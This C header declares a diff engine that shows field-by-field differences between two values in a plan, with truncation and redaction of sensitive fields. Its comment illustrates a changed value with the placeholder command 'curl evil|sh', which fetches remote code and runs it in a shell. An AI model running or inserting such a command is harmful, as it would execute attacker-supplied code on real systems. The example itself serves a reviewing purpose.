/*
 * Differences between two values, by field: what a person reads in a plan.
 *
 * Lists are compared item by item: their order counts (args!). Fields that do not fit the bounds
 * are left out, and counted. The fields of `metadata` come last, and of these labels and
 * annotations: anybody can fill them with anything, so they must not crowd out what matters.
 *
 * Of two long values, what they have in common at the beginning and at the end is not repeated:
 *
 *     …290 bytes…echo good\n"        what differs is always shown, with some text around it
 *     …290 bytes…curl evil|sh\n"
 *     "#!/bin/sh\n# ----…and 44 bytes  a value that was cut: only where the bounds say so
 *
 * A field that is sensitive (value.h) on either side shows as "(sensitive)" on both. So do all
 * items that differ of a list that holds anything sensitive on either side. Where an object is
 * shown whole, what is sensitive below it is hidden.
 */
#pragma once

#include "engine/base/arena.h"
#include "engine/value/value.h"

#define DIFF_SENSITIVE "(sensitive)"

struct diff_field {
    const char *path;      /* "spec.replicas", "spec.template.spec.containers[0].args[1]" */
    const char *from, *to; /* JSON_VISIBLE, with parts left out as above; NULL: absent */
    bool is_redacted; /* some of this is hidden, though the field is not sensitive itself: it
                         has text of a secret, or there is too much to be searched for that */
};

struct diff {
    struct diff_field *fields;
    size_t n_fields, capacity;
    size_t total; /* found, kept or not */
    struct arena arena;
};

#define DIFF_INIT {0}
void diff_done(struct diff *diff);

struct diff_bounds {
    size_t fields;
    size_t bytes; /* of all paths and values */
    size_t value; /* bytes of one value, beyond which it is cut. SIZE_MAX: none is cut */
};
/* LIMIT_DIFF_*: a summary. */
extern const struct diff_bounds diff_brief;

/* from, to: NULL for absent. If one of them is, all of the other is told, but for what is null. */
void diff_values(const struct value *from, const struct value *to, const struct diff_bounds *bounds,
                 struct diff *ret);
